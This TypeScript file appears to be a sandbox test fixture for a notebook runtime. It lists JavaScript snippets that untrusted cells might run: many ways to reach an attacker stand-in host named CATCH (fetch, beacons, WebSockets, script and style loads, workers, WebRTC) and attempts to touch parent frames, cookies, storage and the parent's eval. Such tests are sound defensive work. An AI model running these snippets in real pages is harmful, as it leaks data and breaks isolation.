/**
 * What the code of a stranger's notebook may try. Each is a cell; `CATCH` stands for a host of the attacker, which must
 * never hear of it. A cell that gets through sets `got`; a refusal, silent or thrown, is what is wanted.
 */
export const NETWORK: Record<string, string> = {
  fetch: 'await fetch(CATCH + "fetch", {mode: "no-cors"})',
  xhr: 'await new Promise((y, n) => { const x = new XMLHttpRequest(); x.onload = y; x.onerror = n; x.open("GET", CATCH + "xhr"); x.send(); })',
  socket: 'new WebSocket(CATCH.replace("http", "ws") + "socket")',
  events: 'new EventSource(CATCH + "events")',
  beacon: 'navigator.sendBeacon(CATCH + "beacon", "x")',
  image: 'document.body.append(Object.assign(new Image(), {src: CATCH + "image"}))',
  script: 'document.body.append(Object.assign(document.createElement("script"), {src: CATCH + "script"}))',
  style:
    'document.head.append(Object.assign(document.createElement("style"), {textContent: `@import url(${CATCH}style);body{background:url(${CATCH}background)}`}))',
  link: 'for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "prerender"]) document.head.append(Object.assign(document.createElement("link"), {rel, as: "script", href: CATCH + rel}))',
  form: 'const f = Object.assign(document.createElement("form"), {action: CATCH + "form", method: "post"}); document.body.append(f); f.submit()',
  media:
    'document.body.insertAdjacentHTML("beforeend", `<video src="${CATCH}video" autoplay></video><object data="${CATCH}object"></object><embed src="${CATCH}embed">`)',
  frame: 'document.body.append(Object.assign(document.createElement("iframe"), {src: CATCH + "frame"}))',
  inner:
    'document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: `<script>fetch("${CATCH}inner")</scr` + `ipt><img src="${CATCH}inner-image">`}))',
  open: 'window.open(CATCH + "open")',
  imported: 'await (0, eval)(`import("${CATCH}imported")`)',
  worker: 'new Worker(CATCH + "worker")',
  blob: 'new Worker(URL.createObjectURL(new Blob([`fetch("${CATCH}blob")`])))',
  service: 'await navigator.serviceWorker.register(CATCH + "service")',
  ping: 'const a = Object.assign(document.createElement("a"), {href: "#", ping: CATCH + "ping"}); document.body.append(a); a.click()',
  peer: 'const p = new self.RTCPeerConnection({iceServers: [{urls: CATCH.replace(/^http:../, "stun:").replace(/.$/, "")}]}); p.createDataChannel("x"); await p.setLocalDescription(); await new Promise(y => { p.onicegatheringstatechange = () => p.iceGatheringState === "complete" && y() })'
};

/** Each gives true when it reached what it must not. */
export const REACH: Record<string, string> = {
  parent: "!!self.parent.document.body",
  top: "!!self.top.document.body",
  address: "!!self.parent.location.href",
  element: "!!frameElement",
  storage: 'self.localStorage.setItem("x", "y"), true',
  session: 'self.sessionStorage.setItem("x", "y"), true',
  cookie: 'document.cookie = "a=b", document.cookie.includes("a=b")',
  database:
    'await new Promise((y, n) => { const r = self.indexedDB.open("x"); r.onsuccess = () => y(true); r.onerror = n; })',
  caches: '!!(await self.caches.open("x"))',
  files: "!!(await navigator.storage.getDirectory())",
  notes: 'self.parent.postMessage({type: "leave", id: 1}, "*"), false',
  peers: "Object.getOwnPropertyNames(self).some(name => /RTC/.test(name))",
  assembly: 'typeof self.WebAssembly !== "undefined"',
  /** Code in a frame of its own would run without a clock. */
  inner:
    '(() => { const f = document.createElement("iframe"); document.body.append(f); return !!f.contentWindow.eval; })()',
  innerDocument:
    '(() => { const f = document.createElement("iframe"); document.body.append(f); return !!f.contentDocument; })()',
  origin: 'self.origin !== "null"',
  eval: 'self.parent.eval("1") === 1'
};
